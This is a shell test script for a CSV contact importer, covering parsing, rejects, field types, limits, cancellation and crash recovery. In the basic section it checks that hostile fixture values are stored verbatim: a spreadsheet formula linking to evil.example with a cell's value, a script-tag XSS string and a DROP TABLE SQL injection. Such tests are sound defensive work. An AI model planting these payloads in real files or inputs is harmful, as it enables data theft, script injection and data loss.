#!/bin/sh
# 0151-import.t: contact imports through waportal-runner, driven through the database as the portal will drive them: the fixtures of t/data/csv with their exact reports, a 50 MB file, the package limit, cancel, one import per customer, two customers at once, and a runner killed mid-read and mid-apply.
[ -n "$BASH_VERSION" ] || exec bash "$0" "$@"
. "${top_srcdir:?}/t/lib/stack.sh"

data=$top_srcdir/t/data/csv
san=${WAPORTAL_TEST_SANITIZERS:-}	# stack_start unsets WAPORTAL_*
stack_start --workers 1 --clock '2030-01-02 03:04:05+00' --runner
stack_customers 1 100 ana@example.com ben@example.com >/dev/null ||
    bail_out "no customers"
sql "UPDATE packages SET max_contacts = 1000000" >/dev/null
gates=$STACK_DIR/gates
mkdir -p "$gates"
chmod 777 "$gates"

# import_new CUSTOMER FILE MAPPING [EXISTING [DELIMITER [ADD_TAGS]]]: a
# job and its import with FILE's header and chunks, ready; prints its id.
import_new()
{
	local cust=$1 file=$2 map=$3 existing=${4:-skip} delim=${5:-,}
	local tags=${6:-'{}'} job size header
	size=$(stat -c %s "$file")
	# The header's cells as the page stores them, split by the database
	# (a python3 per import cost a second each on a loaded machine).
	header=$(head -n 1 "$file" | tr -d '\r\0' | sed 's/^\xef\xbb\xbf//' |
	    iconv -f UTF-8 -t UTF-8 -c)
	job=$(sql "INSERT INTO jobs (customer_id, kind) VALUES ($cust, 'import')
	    RETURNING id") || return 1
	sql "INSERT INTO imports (job_id, customer_id, file_name, file_size,
	    header, mapping, country, existing, delimiter, add_tags)
	    VALUES ($job, $cust, 'f.csv', $size,
	    string_to_array($(_sql_lit "$header"), E'$delim'),
	    $(_sql_lit "$map"), 'ID', '$existing', E'$delim', '$tags')" ||
	    return 1
	"$top_builddir/t/imupload" "$job" "$file" >/dev/null || return 1
	sql "UPDATE imports SET ready = true WHERE job_id = $job;
	    NOTIFY waportal_jobs" || return 1
	echo "$job"
}

# import_over JOB: 0 once the job is done, failed or cancelled.
import_over()
{
	[ "$(sql "SELECT state IN ('done', 'failed', 'cancelled')
	    FROM jobs WHERE id = $1")" = t ]
}

# import_wait JOB: wait (120 s) for the job's end.
import_wait()
{
	wait_for 120 import_over "$1" ||
	    { diag "job $1 did not end"; diag_file "$(stack_log runner.log)"; }
}

# report JOB: "state total inserted updated unchanged duplicates rejected".
report()
{
	sql "SELECT j.state, i.total, i.inserted, i.updated, i.unchanged,
	    i.duplicates, i.rejected FROM jobs j JOIN imports i
	    ON i.job_id = j.id WHERE j.id = $1" | tr '|' ' '
}

# rejects JOB: "line|col|value|reason" a line, in line order.
rejects()
{
	sql "SELECT line, col, value, reason FROM import_rejects
	    WHERE job_id = $1 ORDER BY line"
}

# leftovers JOB: staged rows and chunks the job left (0 0 once over).
leftovers()
{
	sql "SELECT (SELECT count(*) FROM import_rows WHERE job_id = $1),
	    (SELECT count(*) FROM import_chunks WHERE job_id = $1)" | tr '|' ' '
}

# contact CUSTOMER PHONE COLUMNS: the columns of one contact.
contact()
{
	sql "SELECT $3 FROM contacts WHERE customer_id = $1 AND phone = '$2'"
}

sql "INSERT INTO contact_fields (customer_id, key, label, kind) VALUES
    (1, 'city', 'City', 'text')" >/dev/null
basic_map='{"phone": 0, "name": 1, "email": 2, "field:city": 3, "tags": 4, "status": 5, "notes": 6}'

# ---------------------------------------------------------------- basic
job=$(import_new 1 "$data/basic.csv" "$basic_map")
import_wait "$job"
is "$(report "$job")" "done 10 6 0 0 1 3" \
    "basic.csv: 10 rows, 6 inserted, 1 duplicate, 3 rejected"
is "$(rejects "$job")" "9|phone|abc|phone-not-a-number
10|phone|021-5551234|phone-not-mobile
11|email|not-an-email|email-invalid" "basic.csv: the rejects by line, column, value, reason"
is "$(leftovers "$job")" "0 0" "basic.csv: no staged row or chunk is left"
is "$(contact 1 +6281234567801 "name, email, fields->>'city', status, consent_source")" \
    "Budi, Santoso|budi@example.com|Jakarta|subscribed|import" \
    "a quoted field with a comma; the first line of a duplicate wins"
is "$(contact 1 +6281234567802 "name, email, fields->>'city', notes")" \
    "Siti Aminah|siti@example.com|Bandung, Jawa Barat|Line one,
line two" "quoted fields with a comma and a line break, the e-mail's domain lower-cased"
is "$(contact 1 +6281234567803 "name, fields->>'city', status")" \
    '=HYPERLINK("http://evil.example/?x="&A1)|@SUM(1+1)|unsubscribed' \
    "formula cells are stored exactly as written"
is "$(contact 1 +6281234567804 "name, fields->>'city'")" \
    "<script>alert(1)</script>|'); DROP TABLE contacts;--" \
    "HTML and SQL cells are stored exactly as written"
is "$(contact 1 +6281234567806 "name, email, fields")" "Ragged||{}" \
    "a ragged row: the missing cells are empty"
is "$(contact 1 +6281234567807 "name, fields->>'city'")" 'Quote "inside"|+1-2' \
    "a doubled quote inside a quoted field"
is "$(sql "SELECT string_agg(t.name, ',' ORDER BY t.name) FROM contacts c,
    unnest(c.tags) x JOIN tags t ON t.id = x WHERE c.phone = '+6281234567803'")" \
    "new,vip" "tags from a ';'-separated cell, made once per name"
is "$(sql "SELECT name || ':' || contacts FROM tags WHERE customer_id = 1 ORDER BY name")" \
    "jakarta:1
new:1
vip:2" "the tags' counts follow"
is "$(sql "SELECT status || ':' || source || ':' || job_id FROM contact_consents
    WHERE customer_id = 1 ORDER BY phone")" \
    "subscribed:import:$job
unsubscribed:import:$job" "each declared status is in the consent log with the job"
is "$(sql "SELECT total || ' ' || subscribed || ' ' || unsubscribed FROM contact_counts
    WHERE customer_id = 1")" "6 1 1" "the counters follow"
is "$(sql "SELECT done = total AND total = $(stat -c %s "$data/basic.csv") AND phase = ''
    AND lease_owner IS NULL AND finished_at IS NOT NULL FROM jobs WHERE id = $job")" t \
    "the job's progress is the file's size, its lease released"

job=$(import_new 1 "$data/basic.csv" "$basic_map")
import_wait "$job"
is "$(report "$job")" "done 10 0 0 6 1 3" "the same file again inserts nothing"
job=$(import_new 1 "$data/basic.csv" "$basic_map" overwrite)
import_wait "$job"
is "$(report "$job")" "done 10 0 0 6 1 3" "... nor changes anything when overwriting"
is "$(sql "SELECT count(*) FROM contact_consents WHERE customer_id = 1")" 2 \
    "... nor logs consent again"

# ---------------------------------------------------------------- existing
upd_map='{"phone": 0, "name": 1, "email": 2, "field:city": 3}'
job=$(import_new 1 "$data/update.csv" "$upd_map" fill)
import_wait "$job"
is "$(report "$job")" "done 3 0 1 2 0 0" "fill: only the contact with an empty e-mail changes"
is "$(contact 1 +6281234567801 "name, email, fields->>'city'")" \
    "Budi, Santoso|budi@example.com|Jakarta" "fill keeps values"
is "$(contact 1 +6281234567803 "email")" "new3@example.com" "fill gives empty fields a value"
job=$(import_new 1 "$data/update.csv" "$upd_map" overwrite)
import_wait "$job"
is "$(report "$job")" "done 3 0 1 2 0 0" "overwrite: the contact with other values changes"
is "$(contact 1 +6281234567801 "name, email, fields->>'city'")" \
    "Budi Baru|budi.baru@example.com|Surabaya" "overwrite replaces values"
is "$(contact 1 +6281234567802 "name, email, fields->>'city'")" \
    "Siti Aminah|siti@example.com|Bandung, Jawa Barat" "empty cells change nothing"
job=$(import_new 1 "$data/update.csv" "$upd_map" skip)
import_wait "$job"
is "$(report "$job")" "done 3 0 0 3 0 0" "skip: existing contacts are unchanged"

# ---------------------------------------------------------------- formats
job=$(import_new 2 "$data/bom-semicolon.csv" '{"phone": 0, "name": 1}' skip ';')
import_wait "$job"
is "$(report "$job")" "done 2 2 0 0 0 0" "BOM, ';' and CRLF"
is "$(contact 2 +6281234567812 name)" "Dewi; Putri" "... a quoted ';' is part of the value"
is "$(contact 2 +6281234567811 name)" "Ani" "... the line ends are not in the values"
job=$(import_new 2 "$data/tab.tsv" '{"phone": 0, "name": 1, "notes": 2}' skip '\t')
import_wait "$job"
is "$(report "$job")" "done 2 2 0 0 0 0" "tab-separated"
is "$(contact 2 +6281234567821 "name, notes")" "Tab One|note with spaces" "... values with spaces"
is "$(contact 2 +6281234567822 "name, notes")" "Tab Two|" "... trimmed, an empty last cell"
job=$(import_new 2 "$data/invalid-utf8.csv" '{"phone": 0, "name": 1}')
import_wait "$job"
is "$(report "$job")" "done 3 2 0 0 0 1" "invalid UTF-8: the row is rejected, an unmapped column does not matter"
is "$(rejects "$job")" "3|name|Bad � name|utf8" "... the value made storable, the reason utf8"
job=$(import_new 2 "$data/header-only.csv" '{"phone": 0, "name": 1}')
import_wait "$job"
is "$(report "$job")" "done 0 0 0 0 0 0" "a header only: an empty report"
before=$(sql "SELECT count(*) FROM contacts")
job=$(import_new 2 "$data/binary.csv" '{"phone": 0}')
import_wait "$job"
is "$(sql "SELECT state || ': ' || error FROM jobs WHERE id = $job")" \
    "failed: The file is not a CSV text file: it holds binary data." \
    "a binary file named .csv fails with a clear error"
is "$(sql "SELECT count(*) FROM contacts")" "$before" "... and adds no contact"
is "$(leftovers "$job")" "0 0" "... and leaves nothing staged"
is "$(sql "SELECT count(*) FROM import_rejects WHERE job_id = $job")" 0 "... nor rejects"

sql "INSERT INTO contact_fields (customer_id, key, label, kind, choices) VALUES
    (2, 'age', 'Age', 'number', '{}'), (2, 'birthday', 'Birthday', 'date', '{}'),
    (2, 'member', 'Member', 'boolean', '{}'),
    (2, 'size', 'Size', 'choice', '{Small,Medium,Large}')" >/dev/null
job=$(import_new 2 "$data/fields.csv" \
    '{"phone": 0, "field:age": 1, "field:birthday": 2, "field:member": 3, "field:size": 4, "tags": 5}')
import_wait "$job"
is "$(report "$job")" "done 6 2 0 0 0 4" "custom fields: 2 good rows, 4 with a bad value"
is "$(contact 2 +6281234567861 "fields::text")" \
    '{"age": 42, "size": "Large", "member": true, "birthday": "2024-02-29"}' \
    "values stored by kind: number, choice as declared, boolean, date"
is "$(contact 2 +6281234567862 "fields::text")" \
    '{"age": 4.5, "size": "Small", "member": false, "birthday": "2024-12-31"}' \
    "... +4.50 is 4.5, TIDAK is false"
is "$(rejects "$job")" "4|age|1e5|field-invalid
5|birthday|2023-02-29|field-invalid
6|member|maybe|field-invalid
7|size|huge|field-invalid" "... each bad value rejected with its column"
job=$(import_new 2 "$data/basic.csv" '{"phone": 0, "field:nope": 1}')
import_wait "$job"
is "$(sql "SELECT state || ': ' || error FROM jobs WHERE id = $job")" \
    "failed: The column mapping names a custom field that does not exist." \
    "a mapping to an unknown field fails the import"

# ---------------------------------------------------------------- limits
sql "DELETE FROM contacts WHERE customer_id = 2" >/dev/null
sql "UPDATE packages SET max_contacts = 3" >/dev/null
sql "INSERT INTO packages (name, max_instances, max_contacts, max_messages_month,
    max_api_keys, api_rpm) VALUES ('Big', 1, 1000000, 100, 1, 10);
    UPDATE customer_packages SET package_id = 2 WHERE customer_id = 1" >/dev/null
job=$(import_new 2 "$data/limit.csv" '{"phone": 0, "name": 1}')
import_wait "$job"
is "$(report "$job")" "done 5 3 0 0 0 2" "the package's limit reached mid-import"
is "$(rejects "$job")" "5|phone|+6281234567854|contact-limit
6|phone|+6281234567855|contact-limit" "... the rest rejected with that reason, in line order"
is "$(sql "SELECT count(*) FROM contacts WHERE customer_id = 2")" 3 "... 3 contacts"
sql "UPDATE packages SET max_contacts = 1000000 WHERE id = 1" >/dev/null

ok "$(sql "INSERT INTO imports (job_id, customer_id, file_name, file_size, country)
    VALUES ($job, 2, 'x.csv', 52428801, 'ID')" >/dev/null 2>&1; [ $? -ne 0 ]; echo $?)" \
    "a file over 50 MiB cannot be imported"

# ---------------------------------------------------------------- one at a time
sql "INSERT INTO jobs (customer_id, kind) VALUES (2, 'import')" >/dev/null
ok "$(sql "INSERT INTO jobs (customer_id, kind) VALUES (2, 'import')" >/dev/null 2>&1
    [ $? -ne 0 ]; echo $?)" "one import at a time per customer"
sql "DELETE FROM jobs WHERE customer_id = 2 AND state = 'queued'" >/dev/null

# ---------------------------------------------------------------- generated
# gen FILE N FIRST [NOTES]: a header and N rows of new numbers from
# 0812 FIRST on, each with a name (and NOTES characters of notes).
gen()
{
	python3 - "$@" <<'PY'
import sys
path, n, first = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
notes = "x" * int(sys.argv[4]) if len(sys.argv) > 4 else ""
with open(path, "w") as f:
    f.write("phone,name,notes\n")
    for i in range(first, first + n):
        f.write("0812%08d,Person %d,%s\n" % (i, i, notes))
PY
}
runner_pid()
{
	cat "$STACK_DIR/run/runner.pid"
}
sql "DELETE FROM contacts; DELETE FROM tags" >/dev/null

# A 50 MB file: read with flat memory, every row inserted. Under the
# sanitizers a tenth of it (five 1 MiB chunks): what they check is the
# code's memory use, which the chunks' loop repeats, not the file's size.
big=$STACK_DIR/big.csv
nbig=108000 min=50000000
[ -z "$san" ] || nbig=10800 min=5000000
gen "$big" "$nbig" 10000000 440
size=$(stat -c %s "$big")
ok "$([ "$size" -gt "$min" ] && [ "$size" -le 52428800 ]; echo $?)" \
    "a generated file of $size bytes"
job=$(import_new 1 "$big" '{"phone": 0, "name": 1, "notes": 2}')
import_wait "$job"
is "$(report "$job")" "done $nbig $nbig 0 0 0 0" "$((min / 1000000)) MB: every row inserted"
is "$(sql "SELECT count(*) FROM contacts WHERE customer_id = 1 AND length(notes) = 440")" \
    "$nbig" "... with its notes"
if [ -z "$san" ]; then
	hwm=$(awk '/^VmHWM/ { print $2 }' "/proc/$(runner_pid)/status")
	cmp_ok "$hwm" -lt 65536 "... the runner's peak memory stays under 64 MiB (${hwm} kB)"
fi
rm -f "$big"

# SIGKILL mid-read: the next runner claims the job when its lease ran
# out and reads the file again from the start.
gen "$STACK_DIR/k1.csv" 60000 20000000
stack_runner_stop
WAPORTAL_RUNNER_TEST_PAUSE=read:$gates/k1 stack_runner_start ||
    bail_out "no runner"
job=$(import_new 1 "$STACK_DIR/k1.csv" '{"phone": 0, "name": 1}')
wait_for 60 test -e "$gates/k1.waiting"
ok $? "the runner pauses after its first chunk"
staged=$(sql "SELECT count(*) FROM import_rows WHERE job_id = $job")
cmp_ok "$staged" -gt 0 "... with rows staged ($staged)"
stack_runner_kill
is "$(sql "SELECT state || ' ' || attempts || ' ' || phase FROM jobs WHERE id = $job")" \
    "running 1 reading" "killed mid-read: the job is still the dead runner's"
stack_runner_start || bail_out "no runner"
stack_clock_add '2 minutes' || bail_out "clock"
import_wait "$job"
is "$(report "$job")" "done 60000 60000 0 0 0 0" "... resumed by the next runner, read again, the exact report"
is "$(sql "SELECT attempts FROM jobs WHERE id = $job")" 2 "... in its second attempt"
is "$(leftovers "$job")" "0 0" "... nothing left staged"

# SIGKILL mid-apply (its transaction open): nothing is applied; the
# next runner applies the complete read without reading again.
gen "$STACK_DIR/k2.csv" 3000 30000000
stack_runner_stop
WAPORTAL_RUNNER_TEST_PAUSE=apply:$gates/k2 stack_runner_start ||
    bail_out "no runner"
before=$(sql "SELECT count(*) FROM contacts")
job=$(import_new 1 "$STACK_DIR/k2.csv" '{"phone": 0, "name": 1}')
wait_for 60 test -e "$gates/k2.waiting"
ok $? "the runner pauses before committing its apply"
stack_runner_kill
is "$(sql "SELECT count(*) FROM contacts")" "$before" "killed mid-apply: no contact is added"
is "$(sql "SELECT state || ' ' || i.total || ' ' || i.staged FROM jobs j
    JOIN imports i ON i.job_id = j.id WHERE j.id = $job")" "running 0 3000" \
    "... the job runs, its report empty, its complete read kept"
stack_runner_start || bail_out "no runner"
stack_clock_add '2 minutes' || bail_out "clock"
import_wait "$job"
is "$(report "$job")" "done 3000 3000 0 0 0 0" "... applied whole by the next runner"
is "$(grep -c "job $job import: released\|job $job import: done" "$(stack_log runner.log)")" 1 \
    "... which logged it done once"

# A job its runners died with too many times fails with a record.
job=$(import_new 1 "$data/limit.csv" '{"phone": 0, "name": 1}')
wait_for 60 import_over "$job"
sql "UPDATE jobs SET state = 'running', lease_owner = 'ghost:1', attempts = 3,
    lease_until = wa_now() - interval '1 second', finished_at = NULL WHERE id = $job;
    INSERT INTO import_chunks (job_id, seq, data) VALUES ($job, 0, 'x');
    NOTIFY waportal_jobs" >/dev/null
import_wait "$job"
like "$(sql "SELECT state || ': ' || error FROM jobs WHERE id = $job")" \
    "^failed: The job stopped several times" "after 3 attempts the job fails with a record"
is "$(leftovers "$job")" "0 0" "... and leaves nothing"

# Cancel while reading.
before=$(sql "SELECT count(*) FROM contacts")
stack_runner_stop
WAPORTAL_RUNNER_TEST_PAUSE=read:$gates/c1 stack_runner_start || bail_out "no runner"
job=$(import_new 1 "$STACK_DIR/k1.csv" '{"phone": 0, "name": 1}' overwrite)
wait_for 60 test -e "$gates/c1.waiting"
sql "UPDATE jobs SET cancel_asked = true WHERE id = $job" >/dev/null
touch "$gates/c1"
import_wait "$job"
is "$(sql "SELECT state FROM jobs WHERE id = $job")" cancelled "a cancelled import ends cancelled"
is "$(sql "SELECT count(*) FROM contacts")" "$before" "... and adds nothing"
is "$(leftovers "$job") $(sql "SELECT count(*) FROM import_rejects WHERE job_id = $job")" \
    "0 0 0" "... and leaves nothing"

# SIGTERM while reading: the job is given back, the runner exits 0.
stack_runner_stop
WAPORTAL_RUNNER_TEST_PAUSE=read:$gates/t1 stack_runner_start || bail_out "no runner"
gen "$STACK_DIR/t1.csv" 40000 40000000
job=$(import_new 1 "$STACK_DIR/t1.csv" '{"phone": 0, "name": 1}')
wait_for 60 test -e "$gates/t1.waiting"
stack_runner_stop
is "$?" 0 "SIGTERM mid-read: the runner exits 0"
is "$(sql "SELECT state || ' ' || attempts || ' ' || coalesce(lease_owner, '-') FROM jobs
    WHERE id = $job")" "queued 0 -" "... and gives the job back, its attempt not counted"
stack_runner_start || bail_out "no runner"
sql "NOTIFY waportal_jobs" >/dev/null
import_wait "$job"
is "$(report "$job")" "done 40000 40000 0 0 0 0" "... the next runner does it whole"

# Two customers import at the same time, each with a runner.
stack_runner_stop
gen "$STACK_DIR/p1.csv" 2000 50000000
gen "$STACK_DIR/p2.csv" 2000 60000000
WAPORTAL_RUNNER_TEST_PAUSE=read:$gates/pa stack_runner_start runner || bail_out "no runner"
WAPORTAL_RUNNER_TEST_PAUSE=read:$gates/pb stack_runner_start runner2 || bail_out "no runner"
j1=$(import_new 1 "$STACK_DIR/p1.csv" '{"phone": 0, "name": 1}')
j2=$(import_new 2 "$STACK_DIR/p2.csv" '{"phone": 0, "name": 1}')
wait_for 60 eval 'test -e "$gates/pa.waiting" && test -e "$gates/pb.waiting"'
ok $? "two runners read two customers' files at once"
touch "$gates/pa" "$gates/pb"
import_wait "$j1"
import_wait "$j2"
is "$(report "$j1") / $(report "$j2")" "done 2000 2000 0 0 0 0 / done 2000 2000 0 0 0 0" \
    "... both done"
stack_runner_stop runner2

done_testing
